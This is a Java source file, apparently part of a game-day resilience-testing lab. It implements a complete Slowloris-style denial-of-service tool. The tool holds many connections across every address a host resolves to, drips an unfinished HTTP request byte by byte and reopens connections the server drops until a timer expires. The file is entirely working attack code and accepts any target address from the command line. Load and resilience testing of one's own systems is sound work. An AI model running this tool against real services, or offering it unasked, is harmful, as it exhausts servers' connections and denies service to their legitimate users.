package dev.breakwater.lab.gameday.target;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.UnknownHostException;
import java.time.Duration;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * So many connections at a time that send a request byte by byte and never end it; one that is
 * closed is opened again. They are spread over every machine that the address stands for.
 */
public final class SlowClients {

    private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);
    private static final int CONNECT_MILLIS = 2000;
    private static final String REQUEST =
            "GET /orders?userId=slow HTTP/1.1\r\nHost: slow\r\nX-Slow: ";

    private final InetAddress[] hosts;
    private final int port;
    private final long end;
    private final AtomicInteger opened = new AtomicInteger();

    private SlowClients(InetAddress[] hosts, int port, Duration time) {
        this.hosts = hosts;
        this.port = port;
        this.end = System.nanoTime() + time.toNanos();
    }

    /** ADDRESS CONNECTIONS SECONDS: for whoever reaches the address only from inside a network. */
    public static void main(String[] arguments) throws UnknownHostException {
        int opened =
                attack(
                        URI.create(arguments[0]),
                        Integer.parseInt(arguments[1]),
                        Duration.ofSeconds(Long.parseLong(arguments[2])));
        System.out.println(opened + " connections were opened");
    }

    /**
     * Returns when the time is over.
     *
     * @return how many connections were opened
     */
    public static int attack(URI address, int connections, Duration time) throws UnknownHostException {
        SlowClients clients =
                new SlowClients(
                        InetAddress.getAllByName(address.getHost()), address.getPort(), time);
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int i = 0; i < connections; i++) {
                InetAddress host = clients.hosts[i % clients.hosts.length];
                threads.execute(() -> clients.drip(host));
            }
        }
        return clients.opened.get();
    }

    private void drip(InetAddress host) {
        try {
            while (!isOver()) {
                dripOnce(host);
                Thread.sleep(
                        BETWEEN_BYTES); // one that is refused is no faster than one that is served
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void dripOnce(InetAddress host) throws InterruptedException {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), CONNECT_MILLIS);
            opened.incrementAndGet();
            for (byte each : REQUEST.getBytes(US_ASCII)) {
                socket.getOutputStream().write(each);
                Thread.sleep(BETWEEN_BYTES);
                if (isOver()) {
                    return;
                }
            }
        } catch (IOException closed) {
            // the server is done with it; another one follows
        }
    }

    private boolean isOver() {
        return System.nanoTime() > end;
    }
}
